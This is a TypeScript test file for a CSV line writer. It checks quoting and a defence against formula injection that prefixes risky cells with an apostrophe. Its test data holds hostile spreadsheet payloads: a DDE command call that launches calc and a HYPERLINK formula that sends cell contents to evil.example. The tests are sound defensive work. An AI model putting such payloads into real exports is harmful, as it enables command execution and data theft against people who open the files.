import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine } from '#shared/csv.ts';

describe('a line of the CSV file', () => {
  it.each([
    ['a plain text', 'Ayesha', '"Ayesha"'],
    ['a separator', 'a,b;c\td', '"a,b;c\td"'],
    ['quotes', 'say "hi"', '"say ""hi"""'],
    ['line ends', 'a\r\nb', '"a\r\nb"'],
    ['another script', 'پشاور', '"پشاور"'],
    ['nothing', null, '""'],
    ['a number', 5, '5'],
    ['a negative number', -5, '-5'],
    ['a formula', '=1+1', `"'=1+1"`],
    ['a call of the system', `=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`],
    [
      'a link that steals',
      '=HYPERLINK("http://evil.example?x="&A1)',
      `"'=HYPERLINK(""http://evil.example?x=""&A1)"`,
    ],
    ['a plus', '+92 300 1234567', `"'+92 300 1234567"`],
    ['a minus', '-2+3', `"'-2+3"`],
    ['an at', '@SUM(1+1)', `"'@SUM(1+1)"`],
    ['a tab', '\t=1', `"'\t=1"`],
    ['a line end first', '\r=1', `"'\r=1"`],
    ['a line feed first', '\n=1', `"'\n=1"`],
    ['a full-width equals sign', '＝1+1', `"'＝1+1"`],
    ['a full-width plus', '＋1', `"'＋1"`],
    ['a full-width minus', '－1', `"'－1"`],
    ['a full-width at', '＠A1', `"'＠A1"`],
    ['a formula behind a quote', '"=1+1', '"""=1+1"'],
    ['a sign further on', 'a=1', '"a=1"'],
  ])('%s', (_story, value, written) => {
    expect(csvLine([value])).toBe(`${written}\r\n`);
  });

  it('is read back cell by cell, whatever the cells hold, and no cell begins a formula', () => {
    const cells = fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(cells, (sent) => {
        const read = readLine(csvLine(sent));
        expect(read.map((text, index) => (text === sent[index] ? text : text.slice(1)))).toEqual(sent);
        for (const text of read) expect(text).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
    );
  });
});

/** Parses a line by RFC 4180. */
function readLine(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true);
  return [...line.slice(0, -2).matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((cell) =>
    (cell[1] ?? '').replaceAll('""', '"'),
  );
}
